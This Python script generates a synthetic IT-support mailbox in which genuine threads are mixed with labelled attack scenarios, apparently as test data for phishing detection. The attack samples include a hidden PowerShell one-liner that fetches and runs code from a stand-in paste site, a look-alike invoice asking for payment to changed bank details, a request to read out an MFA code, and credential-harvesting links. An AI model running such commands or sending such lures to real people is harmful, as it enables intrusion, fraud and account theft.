# ================================================================ T18 Werner: config backups before the firewall upgrade (Jan 2025)
t18 = Thread("T18", werner, "Config backups before Saturday's firmware upgrades")
t18.add(me, "Hi Werner\n\nBefore we touch the Karoo and Bergvliet firewalls on Saturday, please pull config backups of both, plus the "
        "running configs of their core switches. I want them somewhere other than the firewall itself this time.", at(2025, 1, 8, 14, 15))
t18.add(werner, "Backups attached, zipped: both firewall configs (7.2.10) and the two switch running-configs. Same copies are in the "
        "IT Glue documents for each client.", at(2025, 1, 9, 7, 51), GH, scen=("G2", "colleague engineer sends zipped firewall/switch config backups"),
        atts=[("config-backups-20250109.zip", zipfile_bytes([
            ("karoo-fw01_7.2.10_20250109.conf", b"#config-version=SW100F-7.2.10-FW-build1706:opmode=0:vdom=0\nconfig system global\n    set hostname \"KAROO-FW01\"\n    set timezone 81\nend\n"),
            ("bergvliet-fw01_7.2.10_20250109.conf", b"#config-version=SW60F-7.2.10-FW-build1706:opmode=0:vdom=0\nconfig system global\n    set hostname \"BW-FW01\"\nend\n"),
            ("karoo-sw-core_running-config.txt", b"! KAROO-SW-CORE\nhostname KAROO-SW-CORE\nvlan 10\n name DATA\nvlan 20\n name VOICE\n"),
            ("bergvliet-sw01_running-config.txt", b"! BW-SW01\nhostname BW-SW01\nvlan 30\n name CELLAR\n")], (2025, 1, 9, 7, 40, 0)), "application/zip")])
t18.add(me, "Got them, thanks. I'll be on the Karoo one from 8, you take Bergvliet?", at(2025, 1, 9, 8, 30))
t18.add(werner, "Done - Bergvliet's pair came up on 7.4.3 without drama. Their cellar VLAN DHCP relay needed re-adding, noted in the doc.",
        at(2025, 1, 11, 12, 48), G)

# ================================================================ T5 Muizenberg: POS receipt printer (Jan 2025) + A6 ISO
t5 = Thread("T5", greg, "Till slip printer not printing")
t5.add(greg, "Hi Sipho\n\nSince we moved the till to the other side of the counter the slip printer doesn't print. The POS says 'printer "
       "not ready'. We're doing handwritten slips, which is a mess on a Saturday.", at(2025, 1, 14, 10, 31))
t5.add(me, "Hi Greg\n\nIs it the one with the USB cable or the network cable? It's an Epson TM-T20III if I remember correctly. If it's USB, "
       "try a different port on the PC first.", at(2025, 1, 14, 11, 2))
t5.add(greg, "Sorry only replying now, just locked up the shop. It's the USB one. Tried all the ports and a new cable, still nothing.\n\nSent from my iPhone",
       at(2025, 1, 14, 23, 4), GH, client="iphone", sig=False, scen=("G9", "client replies from his iPhone at 23:04, no signature"))
t5.add(me, "Thanks Greg. Windows probably gave it a new port number when it was plugged into a different socket. I'll come past on Thursday "
       "morning with a spare cable and reinstall the Epson driver.", at(2025, 1, 15, 8, 5))
t5.add(greg, "Thursday works, we open at 9 but I'll be there from 8.", at(2025, 1, 15, 8, 41), G)
t5.add(me, "For your records: the Advanced Printer Driver was reinstalled and the POS pointed at the new port. The visit is covered by "
       "your support contract.", at(2025, 1, 16, 12, 33))
t5.add(greg, "Hi Sipho\n\nThe second till also needs the driver. Epson sent us this driver pack, please can you install it on your side and "
       "push it to us, we can't open it here.", at(2025, 1, 21, 10, 14), HJ("server-hijack"),
       scen=("A6", "client's real Afrihost/Roundcube mailbox (same headers) sends an ISO 'driver pack'"),
       atts=[("Epson_TM_DriverPack_2025.iso", iso_image("EPSON_DRV"), "application/x-iso9660-image")])

# ================================================================ T28 Rondebosch: new PC, MSP's own ScreenConnect (Jan 2025)
sc_own = f"{KRO}/Bin/ScreenConnect.ClientSetup.exe?e=Support&y=Guest&h=remote.tafelberg-it.example&p=8041&s={ruuid()}&k=BgIAAACkAABSU0Ex{alnum(24)}"
t28 = Thread("T28", lindiwe, "New reception PC - moving your profile")
t28.add(me, "Hi Lindiwe\n\nThe new reception PC is on its way to you with our technician. To copy the booking system settings and your desktop "
        f"over, I need to connect to the old PC first. Please click this link at 10:45 and allow the prompt:\n{sc_own}\n\n"
        "It's our own remote support server (remote.tafelberg-it.example).", at(2025, 1, 22, 10, 38))
t28.add(lindiwe, f"Hi Sipho, I clicked {sc_own} but Windows asks whether I want to run ScreenConnect.ClientSetup.exe. "
        "Is that the right thing? It looked different last time.", at(2025, 1, 22, 10, 52), GH,
        scen=("G15", "client pastes the MSP's own ScreenConnect link back (domain known in thread)"))
sc_own2 = f"{KRO}/Bin/ScreenConnect.ClientSetup.exe?e=Support&y=Guest&h=remote.tafelberg-it.example&p=8041&s={ruuid()}&k=BgIAAACkAABSU0Ex{alnum(24)}"
t28.add(me, "Yes, that's the one - last time the client was still installed from November. Run it and click Allow when the blue box appears. "
        f"If it times out, here is a fresh session:\n{sc_own2}", at(2025, 1, 22, 10, 58))
t28.add(lindiwe, "Connected, I can see your mouse moving. I'll leave you to it and go help at the front.", at(2025, 1, 22, 11, 7), G)

# ================================================================ T12 Tricor: Dell quote for Karoo (Jan 2025) + A3 look-alike "invoice overdue"
t12 = Thread("T12", rudi, "Quote request: 5x Latitude 5450 + WD19S docks")
t12.add(me, "Hi Rudi\n\nPlease quote 5x Dell Latitude 5450 (i5-135U, 16 GB, 512 GB, 3-year ProSupport) with 5x WD19S docks, delivery to our "
        "Montague Gardens office. It's for Karoo Logistics' dispatch team.", at(2025, 1, 20, 9, 5))
t12.add(rudi, "Morning Sipho\n\nQuote Q-118734 attached. Four units are in stock in Cape Town, the fifth comes from Midrand with an extra day.",
        at(2025, 1, 20, 11, 22), G, atts=[("Q-118734_TafelbergIT.pdf", pdf(["Tricor Distribution (Pty) Ltd - Quotation Q-118734",
                                                                               "5x Dell Latitude 5450 i5/16/512 3Y ProSupport", "5x Dell WD19S dock 130W",
                                                                               "Total excl. VAT: R 112 450,00"], when="20250120111800"), "application/pdf")])
t12.add(me, "Accepted - our PO TIT-PO-0119 is attached. Partial delivery is fine.", at(2025, 1, 21, 8, 44),
        atts=[("TIT-PO-0119.pdf", pdf(["Tafelberg IT Services - Purchase Order TIT-PO-0119", "Supplier: Tricor Distribution", "Ref Q-118734"],
                                      producer="Skia/PDF m131", when="20250121084000"), "application/pdf")])
t12.add(rudi, "Order is in. Accounts will send the invoice once the last unit ships.", at(2025, 1, 21, 10, 3), G)
t12.add(me, "All five units arrived this morning, thanks Rudi.", at(2025, 1, 28, 11, 16))
lk = Pt("Tricor Distribution Accounts", "accounts@tricor-dlst.example", "exo", "look-tricor")
t12.add(lk, "Good day Sipho\n\nPlease note that our invoice INV-88231 for PO TIT-PO-0119 (R 129 317,50 incl. VAT) is now overdue. Kindly note that "
        "due to our annual audit our banking details have changed, please make payment to the account below today to avoid your account "
        "being placed on hold:\n\nBank: First National Bank\nAccount name: Tricor Distribution\nBranch code: 250655\nAccount number: 6281 555 0934\n"
        "Reference: INV-88231\n\nPlease send proof of payment to this address.\n\nRegards\nAccounts Department\nTricor Distribution (Pty) Ltd",
        at(2025, 2, 4, 9, 47), HJ("lookalike-domain"), client="roundcube", sig=False,
        scen=("A3", "look-alike distributor domain (tricor-dlst) 'invoice overdue' with new FNB branch code + account number, quotes real thread"))

# ================================================================ T1 Karoo: onboarding Thandi (Feb 2025) + NDR + A9 display-name spoof
t1 = Thread("T1", michelle, "New staff member: Thandi Nkosi starts 10 February")
t1.add(michelle, "Hi Sipho\n\nWe have a new dispatch coordinator, Thandi Nkosi, starting on Monday 10 February. She will need:\n"
       "- Microsoft 365 account and licence\n- one of the new Latitudes\n- access to the dispatch@ shared mailbox and the TMS\n\n"
       "She's replacing Chantal, so the same access as Chantal had should be right.", at(2025, 2, 3, 8, 47))
t1.add(me, "Hi Michelle\n\nNo problem. Two questions: does she need Chantal's old mailbox content, and will she get a company phone for the "
       "Authenticator app or use her own?", at(2025, 2, 3, 10, 15))
t1.add(michelle, "No need for Chantal's mail, Ravi archived it. She gets a company Samsung A55, it's in my drawer and already charged.",
       at(2025, 2, 3, 11, 32), G)
t1.add(me, "Thandi's account is set up as thandi@karoologistics.example with the same groups Chantal had. I'll be on site on Monday at 8:30 "
       "to hand over the laptop and register the Authenticator on the A55 with her.", at(2025, 2, 6, 14, 5))
t1.add(michelle, "Lovely, I'll make sure she's at reception at 8:30.", at(2025, 2, 6, 14, 41), G)
# Sipho sends the welcome pack to a mistyped address -> Google NDR (G13), then resends
wp = emit(me, "gmailweb", at(2025, 2, 10, 7, 52), [("Thandi Nkosi", "thandi@karoologistcs.example")], None, "Welcome to Karoo Logistics - your IT quick start", [],
          "Hi Thandi\n\nWelcome! Attached is a one-page guide for your first day: signing in, the Authenticator app, the printers and how to "
          "log a support ticket with us.\n\nSee you at 8:30." + SIG_ME, no_html=False,
          atts=[("Karoo_IT_QuickStart.pdf", pdf(["Karoo Logistics - IT quick start", "1. Sign in at office.com with thandi@karoologistics.example",
                                                 "2. Approve the Authenticator prompt", "3. Support: support@tafelberg-it.example / 021 555 0140"],
                                                producer="Skia/PDF m131", when="20250207160000"), "application/pdf")])
t_ndr = at(2025, 2, 10, 7, 52)
ndr_plain = ("\n** Address not found **\n\nYour message wasn't delivered to thandi@karoologistcs.example because the domain karoologistcs.example "
             "couldn't be found. Check for typos or unnecessary spaces and try again.\n\nLearn more here: https://support.google.com/mail/answer/6596\n\n"
             "The response was:\n\nDNS Error: DNS type 'mx' lookup of karoologistcs.example responded with code NXDOMAIN Domain name not found: karoologistcs.example\n")
ndr_ds = (f"Reporting-MTA: dns; googlemail.com\nArrival-Date: {rfc(t_ndr, PAC)}\n\nFinal-Recipient: rfc822; thandi@karoologistcs.example\nAction: failed\n"
          "Status: 5.1.2\nDiagnostic-Code: smtp; DNS type 'mx' lookup of karoologistcs.example responded with code NXDOMAIN\n"
          f"Last-Attempt-Date: {rfc(t_ndr + datetime.timedelta(seconds=2), PAC)}\n")
ndr_hdrs = (f"MIME-Version: 1.0\nFrom: Sipho Dlamini <{me.email}>\nDate: {rfc(t_ndr)}\nMessage-ID: {wp}\nSubject: Welcome to Karoo Logistics - your IT quick start\n"
            "To: Thandi Nkosi <thandi@karoologistcs.example>\nContent-Type: multipart/mixed; boundary=\"000000000000" + hx(16) + "\"\n")
tn = t_ndr + datetime.timedelta(seconds=3); nb = "000000000000" + hx(16); nb2 = "000000000000" + hx(16)
ndr_raw = [("Delivered-To", me.email), ("Received", f"by 2002:a05:7300:{hx(4)}:b0:{hx(3)}:{hx(4)}:{hx(4)} with SMTP id {alnum(6).lower()}csp{R.randint(100000, 999999)}{alnum(3).lower()};\n        {pac(tn)}"),
           ("Return-Path", "<>"), ("Received", f"by 2002:a05:6402:{hx(4)}:b0:{hx(3)}:{hx(4)}:{hx(4)} with SMTP id {alnum(20).lower()}.{R.randint(10, 99)}.{int(tn.timestamp())};\n        {pac(tn)}"),
           ("Content-Type", f'multipart/report; boundary="{nb}"; report-type=delivery-status'), ("Received", f"by 2002:a05:6402:{hx(4)}:b0:{hx(3)}:{hx(4)}:{hx(4)} with SMTP id {alnum(20).lower()}.{R.randint(10, 99)}.{int(tn.timestamp())}; {pac(tn)}"),
           ("From", "Mail Delivery Subsystem <mailer-daemon@googlemail.com>"), ("To", me.email), ("Auto-Submitted", "auto-replied"),
           ("Message-ID", f"<{hx(8)}.{hx(8)}.{hx(5)}.{hx(4)}.GMR@mx.google.com>"), ("Date", tn.astimezone(PAC).strftime("%a, %d %b %Y %H:%M:%S %z (%Z)")),
           ("Subject", "Delivery Status Notification (Failure)"), ("MIME-Version", "1.0"), ("References", wp), ("In-Reply-To", wp), ("X-Failed-Recipients", "thandi@karoologistcs.example")]
ndr_body = [f"--{nb}", f'Content-Type: multipart/related; boundary="{nb2}"', "", f"--{nb2}", 'Content-Type: text/plain; charset="UTF-8"', "", ndr_plain,
            f"--{nb2}--", f"--{nb}", "Content-Type: message/delivery-status", "", ndr_ds, f"--{nb}", "Content-Type: text/rfc822-headers", "", ndr_hdrs, f"--{nb}--"]
seq[0] += 1
pending.append((tn.astimezone(UTC), seq[0], "INBOX", "\r\n".join(f"{k}: {v}".replace("\n", "\r\n") for k, v in ndr_raw) + "\r\n\r\n" + "\r\n".join(ndr_body).replace("\r\n", "\n").replace("\n", "\r\n") + "\r\n",
                (ndr_raw[9][1], GH), ("G13", "Google NDR (multipart/report) for a mistyped client domain, In-Reply-To the Sent message")))
emit(me, "gmailweb", at(2025, 2, 10, 7, 58), [("Thandi Nkosi", thandi.email)], None, "Welcome to Karoo Logistics - your IT quick start", [],
     "Hi Thandi\n\n(Resending - I mistyped the address the first time.) Attached is a short guide for your first day.\n\nSee you at 8:30." + SIG_ME,
     atts=[("Karoo_IT_QuickStart.pdf", pdf(["Karoo Logistics - IT quick start", "1. Sign in at office.com with thandi@karoologistics.example"],
                                           producer="Skia/PDF m131", when="20250207160000"), "application/pdf")])
t1.add(thandi, "Hi Sipho\n\nThis is Thandi - Michelle introduced me last week, I started in dispatch on Monday. The dispatch@ mailbox shows "
       "up in Outlook on the web but not in the Outlook app on my laptop. Am I doing something wrong?", at(2025, 2, 11, 9, 12), GH,
       scen=("G10", "new client staff member (introduced earlier by the office manager) writes herself for the first time"))
t1.add(me, "Hi Thandi\n\nNothing wrong on your side - the shared mailbox takes a while to appear in the desktop app after permissions are "
       "added. Close Outlook completely and open it again; if it's still missing after lunch, let me know.", at(2025, 2, 11, 9, 40), to=[(thandi.name, thandi.email)])
t1.add(thandi, "It's there now after the restart. Thank you!", at(2025, 2, 11, 11, 5), G)
spoofm = Pt("Michelle van Wyk", "michellevanwyk.karoo@outlook.com", "outlookcom", "outlookcom")
t1.add(spoofm, "Hi Sipho\n\nThandi is setting up the Authenticator on her phone and it says the verification code went to the admin "
       "number on the account, which I think is yours. Can you please just read me the code you just got (or approve the sign-in "
       "request that popped up)? She's stuck and dispatch is waiting on her.\n\nSent from Outlook for Android", at(2025, 2, 12, 15, 22),
       HJ("display-name-spoof"), sig=False, cc=[(thandi.name, thandi.email)],
       scen=("A9", "office manager's display name from outlook.com: 'read me the code you just got' / approve the MFA prompt"))

# ================================================================ T21 Bergvliet: Windows 10 end of support (Feb 2025), Afrikaans reply
t21 = Thread("T21", annelie, "Windows 10 end of support - replacing 4 PCs")
t21.add(me, "Hi Annelie\n\nMicrosoft stops security updates for Windows 10 on 14 October. Four of your PCs (the two in the tasting room, the "
        "cellar PC and the bookkeeping PC) can't run Windows 11, so I've put two options in the attached proposal.", at(2025, 2, 5, 9, 20),
        atts=[("Bergvliet_Win11_Proposal.pdf", pdf(["Tafelberg IT Services - Windows 11 readiness, Bergvliet Wines", "Option 1: 4x Lenovo ThinkCentre M70q",
                                                    "Option 2: 3x M70q + 1x rugged all-in-one for the cellar"], producer="Skia/PDF m131", when="20250205091000"), "application/pdf")])
t21.add(annelie, "Thanks Sipho. I'll show it to Pieter at the management meeting tomorrow. Does option 2 include moving the label printer "
        "software?", at(2025, 2, 5, 14, 6), G)
t21.add(me, "Yes, the label software and the scale integration move are included in both options.", at(2025, 2, 6, 8, 12))
t21.add(annelie, "Môre Sipho\n\nEk het gister met Pieter gepraat - hy is tevrede met opsie 2. Kan ons net die kelder se rekenaar eers ná die "
        "oes vervang? Die oes begin volgende week en ons kan nou glad nie ontwrigting in die kelder hê nie. Die ander drie kan maar in "
        "Maart kom.\n\nDankie!", at(2025, 2, 7, 8, 3), GH, scen=("G18", "client who mixes writes an Afrikaans reply in an English thread"))
t21.add(me, "Geen probleem, Annelie. We'll do the three office PCs in March and the cellar PC after harvest, say early May. I'll send "
        "the order confirmation on Monday.", at(2025, 2, 7, 9, 15))
t21.add(annelie, "Perfect, baie dankie.", at(2025, 2, 10, 7, 58), G)

# ================================================================ T2 [MSP-4521] Karoo: printer offline (Feb 2025), ticket notification G4, SharePoint link G25
t2 = Thread("T2", michelle, "Printer offline", inbox_to=SUP)
t2.add(michelle, "Morning\n\nThe Kyocera in dispatch shows as offline on all the PCs since this morning, although the printer's own display "
       "says Ready. We had load shedding from 4 to 6:30 this morning if that matters.", at(2025, 2, 17, 8, 5))
desk_note(at(2025, 2, 17, 8, 6), 4521, "[MSP-4521] New ticket: Printer offline (Karoo Logistics)",
          "A new ticket was created by Michelle van Wyk <michelle@karoologistics.example> and assigned to you.\nGroup: Service Desk\n"
          "Priority: 2 normal\nSLA: first response due 17/02/2025 10:05", label=GH,
          scen=("G4", "ticket system's own new-ticket notification, [MSP-4521] tag, no In-Reply-To"))
t2.subj = "[MSP-4521] Printer offline"
t2.add(desk, "Hi Michelle\n\nThe power cut is probably the cause. Could you press the 'i' / System Menu button on the printer and tell me the "
       "IP address it shows? It should be 192.168.1.50.", at(2025, 2, 17, 8, 31))
t2.add(michelle, "It says 192.168.1.187.", at(2025, 2, 17, 9, 10), G)
t2.add(desk, "That explains it - the printer booted before the firewall and picked up a new address from DHCP. I've added a reservation on "
       "the firewall so it keeps .50 from now on, and Werner will correct the port on the PCs with a script tonight.", at(2025, 2, 17, 9, 26))
t2.add(michelle, "Thanks. In case it helps, the manual is on our SharePoint: https://karoologistics.sharepoint.example/:b:/s/Admin/EQx7rV2kLmBHn"
       "3c9aPq0fWkBd1mX4sYz8cT6uJ0oQwErt?e=Hk3d9Z - it's the TASKalfa 3554ci.", at(2025, 2, 17, 10, 2), GH,
       scen=("G25", "client sends a link to her own tenant's SharePoint, first link ever in the thread"))
t2.add(desk, "Thanks Michelle, that's the model I expected. I'll close the ticket once the script has run tonight.", at(2025, 2, 17, 10, 20))

# ================================================================ T19 Werner: printer port script for Karoo (Feb 2025) + A4 hijacked colleague account
t19 = Thread("T19", werner, "Karoo printer port fix")
t19.add(werner, "Sipho, script for MSP-4521 attached. It recreates the Standard TCP/IP port for the TASKalfa on 192.168.1.50 and repoints "
        "the 'Dispatch Kyocera' queue. I'll run it through the RMM at 19:00 unless you shout.", at(2025, 2, 17, 16, 40),
        atts=[("Fix-KarooPrinterPort.ps1", ("# MSP-4521 Karoo Logistics - recreate printer port (W. Visser)\n$ip = '192.168.1.50'\n"
                                            "if (-not (Get-PrinterPort -Name \"IP_$ip\" -ErrorAction SilentlyContinue)) { Add-PrinterPort -Name \"IP_$ip\" -PrinterHostAddress $ip }\n"
                                            "Set-Printer -Name 'Dispatch Kyocera' -PortName \"IP_$ip\"\n").encode(), "application/octet-stream")])
t19.add(me, "Go for it. The reservation is already on the firewall.", at(2025, 2, 17, 17, 2))
t19.add(werner, "Ran on 11 of 12 PCs. DISP-PC04 was switched off; it'll pick up the job when it checks in.", at(2025, 2, 18, 7, 55), G)
t19.add(werner, "Quick one - if Michelle's team calls about DISP-PC04 before the RMM gets to it, just have them paste this into an admin "
        "PowerShell window, it fixes the port and the driver in one go:\n\n"
        "powershell -w hidden -ep bypass -c \"iex (iwr -UseBasicParsing 'https://pastr.example/raw/kT9vQ2xm')\"\n\nW",
        at(2025, 2, 18, 13, 47), HJ("account-takeover"), client="gmailweb", sig=False,
        scen=("A4", "colleague's hijacked Google account (Gmail web instead of his Thunderbird): PowerShell iex(iwr) one-liner from a paste site"))

# ================================================================ T8 Paarl Engineering: server room overheating (Afrikaans) + A12 English lure
t8 = Thread("T8", hendrik, "Bedienerkamer se lugversorger")
t8.add(hendrik, "Môre Sipho\n\nDie lugversorger in die bedienerkamer het gisteraand omstreeks 21:00 gaan staan. Toe ek vanoggend inkom was "
       "dit 38 grade daar binne en die bediener se waaiers het gebrul. Kan julle asseblief kyk of daar skade is?", at(2025, 2, 24, 7, 35))
t8.add(me, "Môre Hendrik\n\nJammer om te hoor. I checked remotely: the host logged two thermal warnings at 02:10 and 02:40 but did not "
       "shut down, and the RAID array and both drives report healthy. Please keep the door open with a fan until the aircon is fixed.",
       at(2025, 2, 24, 8, 20))
t8.add(hendrik, "Dankie Sipho. Die lugversorger-mense kom eers Woensdag. Is dit veilig om die bediener so aan te hou tot dan?",
       at(2025, 2, 24, 10, 5), G)
t8.add(me, "Yes, as long as the room stays under about 30 degrees. I've set an alert so we get an SMS if the CPU temperature goes above "
       "75 degrees, and then we'll shut down the non-essential VMs first.", at(2025, 2, 24, 15, 30))
t8.add(hendrik, "Reg so. Die temperatuur is nou 27 grade met die deur oop en twee waaiers. Ek laat weet Woensdag.", at(2025, 2, 25, 8, 12), G)
t8.add(me, "Baie dankie Hendrik. Once the aircon is fixed, I'd suggest a small network temperature sensor (around R2 400) that alarms "
       "straight to your phone - shall I quote?", at(2025, 2, 26, 9, 0))
t8.add(hendrik, "Good day,\n\nPlease find the updated server room maintenance document shared with you below. Kindly click on the link to "
       "review and sign in with your email to access the file before end of day.\n\nOPEN DOCUMENT: "
       "https://paarlengineering-my.sharepoint-docs.example/personal/hendrik/Doc.aspx?sourcedoc={" + ruuid() + "}&action=view\n\nThank you.",
       at(2025, 2, 27, 11, 19), HJ("account-takeover"), xoip="102.89.34." + str(R.randint(2, 250)),
       scen=("A12", "client's real Exchange account (OWA login from a foreign IP) writes an English 'shared document' lure into an Afrikaans thread"))

# ================================================================ MS Partner Center notices (G6, G7)
ms_notice(at(2025, 2, 20, 16, 30, UTC), "Action required: Confirm your Microsoft AI Cloud Partner Program contact details",
          "Hello Sipho Dlamini,\nWe couldn't verify the primary contact details for your organisation. To keep access to Partner Center, benefits\n"
          "and incentives, review the items below within 30 days. Also make sure your Microsoft Entra multifactor authentication settings\n"
          "meet the partner security requirements.",
          ["Verify your primary contact", "Review partner security requirements", "Enforce multifactor authentication for partner tenants",
           "Granular delegated admin privileges (GDAP) guide", "Partner Center announcements February 2025", "Contact partner support",
           "Manage customer relationships", "Download your partner agreement"], label=GH,
          scen=("G6", "Microsoft Partner Center notice with many links (no thread)"))
ms_notice(at(2025, 4, 1, 8, 15, UTC), "Your new commerce subscriptions renew in 30 days",
          "Hello Tafelberg IT Services,\nThe following customer subscriptions bought through new commerce will auto-renew on 1 May 2025:\n"
          "Karoo Logistics (Pty) Ltd - Microsoft 365 Business Premium (23)\nSouthern Cross Freight - Microsoft 365 Business Standard (18)\n"
          "Review quantities and cancel or change terms before the renewal date.",
          ["Manage subscriptions", "New commerce renewal policy", "Price list for May 2025", "Billing reconciliation files"], label=GH,
          scen=("G7", "Microsoft Partner Center NCE renewal notice with many links"))

# ================================================================ T3 [MSP-4533] Bergvliet: Outlook crashing (Mar 2025): OOF G12, SLA G5, A1 server hijack
t3 = Thread("T3", annelie, "Outlook bly crash / keeps crashing", inbox_to=SUP)
t3.add(annelie, "Hallo\n\nOutlook op my rekenaar crash elke keer as ek die kalender oopmaak. It just closes without an error. Ek het die "
        "rekenaar al twee keer herbegin.", at(2025, 3, 3, 8, 21))
desk_note(at(2025, 3, 3, 8, 22), 4533, "[MSP-4533] New ticket: Outlook bly crash / keeps crashing (Bergvliet Wines)",
          "A new ticket was created by Annelie du Toit <annelie@bergvlietwines.example> and assigned to you.\nGroup: Service Desk\nPriority: 2 normal")
t3.subj = "[MSP-4533] Outlook bly crash / keeps crashing"
t3.add(desk, "Hi Annelie\n\nPlease hold the Ctrl key while you click the Outlook icon - it will ask to start in safe mode. Does the calendar "
       "open in safe mode?", at(2025, 3, 3, 9, 5))
t3.add(annelie, "Ja, in safe mode werk dit. The add-ins list shows the Pastel connector and Zoom.", at(2025, 3, 3, 11, 40), G)
t3.add(desk, "Then it's almost certainly the Pastel connector, which had an update last week. I've disabled it for your profile remotely. "
       "If it still crashes, please switch on logging under File > Options > Advanced, reproduce the crash, and send me the log files zipped.",
       at(2025, 3, 4, 8, 40))
t3.add(annelie, "Ek is met oesverlof tot en met Vrydag 7 Maart en het beperkte toegang tot e-pos. Vir dringende sake, kontak asseblief "
       "Pieter by 021 555 4471.\n\nI am on harvest leave until Friday 7 March with limited access to email. For urgent matters please "
       "contact Pieter on 021 555 4471.", at(2025, 3, 4, 8, 41), GH, sig=False, quote=False, detached=True, subj="Automatic reply: [MSP-4533] Outlook bly crash / keeps crashing",
       extra=[("Auto-Submitted", "auto-replied"), ("X-Auto-Response-Suppress", "All"), ("X-MS-Exchange-Inbox-Rules-Loop", annelie.email)],
       scen=("G12", "Exchange 2019 'Automatic reply' out-of-office in Afrikaans and English"))
desk_note(at(2025, 3, 6, 8, 40), 4533, "[MSP-4533] SLA warning: update due in 2 hours",
          "Ticket #4533 'Outlook bly crash / keeps crashing' (Bergvliet Wines) will breach its update time at 10:40.\nState: pending reminder\nOwner: Sipho Dlamini",
          label=GH, scen=("G5", "ticket system SLA warning notification for [MSP-4533]"))
t3.add(annelie, "Hallo Sipho, ek is terug. It crashed twice yesterday so I did the logging like you said - the zip is attached.",
       at(2025, 3, 10, 9, 31), G, atts=[("Outlook_logging_Annelie.zip", zipfile_bytes([("Outlook Logging/OUTLOOK_16_0_18526_20168-20250309T1514.etl", rbytes(3000)),
                                                                                          ("Outlook Logging/Firstrun.log", b"Outlook 16.0.18526.20168 first run ok\r\n")],
                                                                                         (2025, 3, 10, 9, 25, 0)), "application/zip")])
t3.add(desk, "Thanks Annelie, the log shows the Pastel connector still loading through a second registry key. I've removed it properly now - "
       "please let me know if it crashes again this week.", at(2025, 3, 10, 11, 15))
t3.add(annelie, "Hi Sipho\n\nHere is the log you asked for, the crash happened again this morning. Please check and advise.",
       at(2025, 3, 12, 10, 7), HJ("server-hijack"), sig=True,
       atts=[("Outlook_CrashLog_12032025.zip", zipfile_bytes([("Outlook_CrashLog_12032025.js", ("/* inert probe placeholder - not functional */\nvar _0x3f2a=['"
                                                                                                + alnum(60) + "'];\n").encode())], (2025, 3, 12, 9, 58, 0)), "application/zip")],
       scen=("A1", "client's real on-prem Exchange 2019 (same headers) in a ticket thread: 'the log you asked for' zip holding a .js"))

# ================================================================ T15 SentryWall case for Karoo's HA pair (US vendor portal, CST -> CDT) + A7
c_open = emit(me, "gmailweb", at(2025, 3, 4, 13, 12), [("SentryWall Support", sentry.email)], None,
              "HA pair out of sync after upgrade to 7.4.3 - SW-100F serials SW1KF3T24000871 / SW1KF3T24000912", [],
              "Hello\n\nAfter upgrading our customer's HA pair (Karoo Logistics) from 7.2.10 to 7.4.3 on 11 January, 'get system ha status' shows the "
              "configuration as out of sync every few days. Forcing a resync works for a while. Serial numbers are in the subject.\n\n"
              "Customer contract: SWC-2291-0087" + SIG_ME)
sw_subj = "Case 03184422: HA pair out of sync after upgrade to 7.4.3 [ ref:_00D5e0Kq7W._5005xQw2Ab:ref ]"
sw_case(at(2025, 3, 4, 5, 14, CHI), "03184422", "5005x00002QwAbC", sw_subj,
        "Thank you for contacting SentryWall Technical Support. Case 03184422 has been created with priority P3 and assigned to an engineer.",
        refs=[c_open], engineer="unassigned")
sw2 = sw_case(at(2025, 3, 5, 8, 2, CHI), "03184422", "5005x00002QwAbC", sw_subj,
              "Hi Sipho,\nThanks for the details. Please upload a tech support file (TSF) from both cluster members, taken while the\n"
              "configuration shows out of sync, and the output of 'diagnose sys ha checksum cluster'.\nBest regards,\nJake Morrison, TAC Tier 2",
              refs=[c_open], label=GH, scen=("G24", "genuine vendor support-portal case update with 'View case' link to the real portal"))
emit(me, "gmailweb", at(2025, 3, 5, 16, 40), [("SentryWall Support", sentry.email)], None, "Re: " + sw_subj, [c_open, sw2],
     "Hi Jake\n\nBoth TSFs and the checksum output are uploaded to the case in the portal. The checksums differ in the 'system.dhcp' "
     "table only.\n\nOn Wed, 5 Mar 2025 at 16:02, SentryWall Support <support@sentrywall.example> wrote:\n> Case 03184422 has been updated." + SIG_ME)
sw3 = sw_case(at(2025, 3, 11, 9, 26, CHI), "03184422", "5005x00002QwAbC", sw_subj,
              "Hi Sipho,\nThis matches known issue 1047731: DHCP lease synchronisation marks the cluster checksum as changed. It is fixed in\n"
              "7.4.4, available now under Downloads in the portal. As a workaround, disable 'set dhcp-lease-sync' until you can upgrade.\n"
              "Best regards,\nJake Morrison, TAC Tier 2", refs=[c_open, sw2], label=GH,
              scen=("G24b", "SentryWall case update after the US DST change (now CDT -0500), link to portal downloads"))
emit(me, "gmailweb", at(2025, 3, 12, 8, 5), [("SentryWall Support", sentry.email)], None, "Re: " + sw_subj, [c_open, sw2, sw3],
     "Thanks Jake. We'll upgrade the Karoo pair to 7.4.4 on Saturday and report back. Please keep the case open until then." + SIG_ME)
sw_case(at(2025, 3, 20, 4, 51, CHI), "03184422", "5005x00002QwAbC", sw_subj,
        "Your case is pending customer action and will be closed automatically in 24 hours.\nTo keep it open, confirm your contact details and\n"
        "upload the requested files through the secure portal link below. You will need to sign in with your SentryWall account.",
        refs=[c_open, sw2, sw3], label=HJ("server-hijack"), link_host="support-sentrywall-portal.example", engineer="Jake Morrison",
        scen=("A7", "vendor support-portal notification sent through the real portal (same headers), 'View case' link on a look-alike portal domain"))

# ================================================================ T13 Tricor: genuine bank-detail change letter, verified by phone (G16), invoice (G17)
t13 = Thread("T13", tricor_acc, "Notice: change of Tricor Distribution banking details from 1 April 2025")
t13.add(tricor_acc, "Dear Valued Customer\n\nPlease find attached our formal notice of a change of banking details, effective 1 April 2025, "
        "following the consolidation of our banking with Nedbank. Payments made to the old Standard Bank account will be accepted until "
        "30 April 2025.\n\nFor your protection, please verify this change by phoning your account manager or Credit Control on 011 555 3300 "
        "before updating your records. Tricor will never change banking details by email alone.", at(2025, 3, 10, 10, 2), GH,
        scen=("G16", "distributor's real bank-change letter (PDF) asking for phone verification"),
        atts=[("Tricor_Change_of_Banking_Details_2025.pdf", pdf(["TRICOR DISTRIBUTION (PTY) LTD - Reg. 2004/018822/07", "NOTICE OF CHANGE OF BANKING DETAILS",
                                                                  "Effective 1 April 2025", "Bank: Nedbank Ltd  Branch code: 198765", "Account number: 1187 555 402",
                                                                  "Signed: CFO and Credit Control Manager"], when="20250307150000"), "application/pdf")])
t13.add(me, "Hi Lerato\n\nThanks for speaking to me this morning. As confirmed on the phone (011 555 3300, ext. 214), we've updated Tricor "
        "to Nedbank, branch code 198765, account 1187 555 402, effective 1 April. Payments in March will still go to the Standard Bank account.",
        at(2025, 3, 11, 9, 48))
